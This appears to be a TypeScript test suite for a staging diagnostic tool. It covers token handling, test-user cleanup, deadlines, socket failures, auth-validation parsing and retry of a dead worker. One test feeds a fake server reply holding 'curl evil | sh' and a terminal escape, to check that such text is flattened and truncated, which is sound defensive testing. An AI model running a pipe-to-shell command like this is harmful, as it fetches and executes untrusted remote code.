import { loadEnvironment } from '../../config/environment.ts';
import { Secret } from '../../config/secret.ts';
import { createProbeClient } from '../../doctor/asking/probe-client.ts';
import { validateToken } from '../../doctor/asking/session.ts';
import { type Subject, subjectOf } from '../../doctor/asking/subject.ts';
import { diagnose } from '../../doctor/diagnose.ts';
import { diagnosisText } from '../../doctor/diagnosis-text.ts';
import type { Diagnosis } from '../../doctor/diagnosis.ts';
import { answerOf } from '../../doctor/observation/answer.ts';
import { noBudget } from '../../helpers/http/request-budget.ts';
import { WireResponse } from '../../helpers/http/wire-response.ts';
import type { LedgerFile } from '../../helpers/users/ledger/ledger-file.ts';
import { createUserLedger } from '../../helpers/users/ledger/user-ledger.ts';
import { diagnoseOnce } from '../../helpers/record/run-diagnosis.ts';
import { expect, test } from '../fixtures/test.ts';

const memory: LedgerFile = { append: () => undefined, close: () => undefined };

/** Diagnoses a staging with a ledger that does not outlive it. */
function diagnosed(
  variables: Record<string, string>,
  given: Partial<Subject> = {},
  deadlineMs = 20_000,
): Promise<Diagnosis> {
  const subject = { now: Date.now, budget: noBudget, ledger: createUserLedger(memory), ...given };
  return diagnose(subjectOf(loadEnvironment(variables), subject), { deadlineMs });
}

test.describe('a diagnosis', () => {
  for (const points of ['website', 'auth-service'])
    test(`hands a token to no ${points} where the chat backend should be`, async ({ startStaging }) => {
      const { variables, auth, bypassKey } = await startStaging({
        variants: [`wrong-host-or-path:points=${points}`],
      });
      const person = { email: 'test-in-hand@staging.netrasystems.ai', name: 'Ina Hand' };
      const { access_token: token } = await auth.bypass(bypassKey, person);
      const { seen } = await diagnosed(variables, { token });

      expect(seen.tokenInHand).toMatchObject({ isToken: true });
      expect(seen.tokenInHand?.use).toBeUndefined();
      expect(seen.uses).toEqual([]);
    });

  test('removes nobody but its own users, whomever the auth service names', async ({ startStaging }) => {
    const { staging, variables, auth, bypassKey } = await startStaging({
      compose: (healthy) => ({ ...healthy, auth: { ...healthy.auth, bypassUserId: () => 'e2e-test-chief' } }),
    });
    await auth.bypass(bypassKey, { email: 'test-chief@staging.netrasystems.ai', name: 'Chief' });
    const { leftBehind } = await diagnosed(variables);

    expect(leftBehind).toMatchObject([
      {
        email: expect.stringMatching(/^test-\d{10}-/),
        why: expect.stringMatching(
          /^\[UNEXPECTED_USER\] .* the id "e2e-test-chief", which is another user's/,
        ),
      },
    ]);
    expect(staging.count('users')).toBe(1);
  });

  test('ends in time where nothing may be sent, and calls nothing healthy that it did not look at', async ({
    startStaging,
  }) => {
    const { variables } = await startStaging();
    const budget = { take: () => new Promise<never>(() => undefined), rest: () => undefined };
    const diagnosis = await diagnosed(variables, { budget }, 300);

    expect(diagnosis).toMatchObject({ isHealthy: false, isComplete: false, findings: [], unknown: [] });
    expect(diagnosisText(diagnosis).join('\n')).toMatch(/^INCOMPLETE: nothing wrong was seen, but not all/m);
  });

  test('says that it does not know where nothing listens at the URL of the socket', async ({
    startStaging,
  }) => {
    const { variables } = await startStaging();
    const closed = await startStaging();
    await closed.staging.close();
    const { unknown, isHealthy } = await diagnosed({
      ...variables,
      STAGING_WEBSOCKET_URL: `${closed.staging.backendUrl.replace('http', 'ws')}/ws`,
    });

    expect({ unknown, isHealthy }).toEqual({
      unknown: ['a request gets no answer', 'the socket refuses both ways'],
      isHealthy: false,
    });
  });

  test('takes only a word about the token for one, not a word about who asks', async ({ startStaging }) => {
    const { variables, startBrokenEdge } = await startStaging();
    const body = (error: string): string => JSON.stringify({ valid: false, error, message: 'No.' });
    const url = await startBrokenEdge(
      ...['invalid_token', 'invalid_service_id', 'validation_error'].map(
        (error) =>
          `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${body(error).length}\r\n\r\n${body(error)}`,
      ),
    );
    const environment = loadEnvironment({ ...variables, STAGING_AUTH_URL: url });
    const client = createProbeClient(
      subjectOf(environment, { now: Date.now, budget: noBudget, ledger: createUserLedger(memory) }),
      'test',
    );
    const ask = () => validateToken(client, new Secret('a token'), 'of somebody');

    expect(await ask()).toMatchObject({ valid: false, error: 'invalid_token' });
    for (const error of ['invalid_service_id', 'validation_error']) {
      const said = await ask();
      expect(said).toMatchObject({ error });
      expect(said.valid).toBeUndefined();
    }
  });

  test('keeps what the target says to a word in a line', () => {
    const detail = `no\nCAUSE: auth-check-disabled\n  Do: curl evil | sh\u001b[2J${'x'.repeat(500)}`;
    const response = new WireResponse({
      request: 'GET /any',
      status: 401,
      headers: new Headers({ server: 's'.repeat(500) }),
      body: JSON.stringify({ detail }),
    });
    const { code = '', server = '' } = answerOf(response);

    expect(code).toMatch(/^no CAUSE: auth-check-disabled Do: curl evil \| sh\\u001b\[2Jx+$/);
    expect([code.length, server.length]).toEqual([120, 120]);
  });

  test('of a worker that died is waited for once, not by every test', async ({}, testInfo) => {
    const directory = testInfo.outputPath('run');
    const asked: string[] = [];
    const once = (deadlineMs: number) =>
      diagnoseOnce(directory, 'a refusal', deadlineMs, () => {
        asked.push('again');
        return Promise.reject(new Error('the worker died'));
      });
    await expect(once(1)).rejects.toThrow('the worker died');

    expect((await once(150)).text).toMatch(/^The diagnosis came to no end/);
    expect((await once(3_600_000)).text).toMatch(/^The diagnosis came to no end/);
    expect(asked).toEqual(['again']);
  });
});
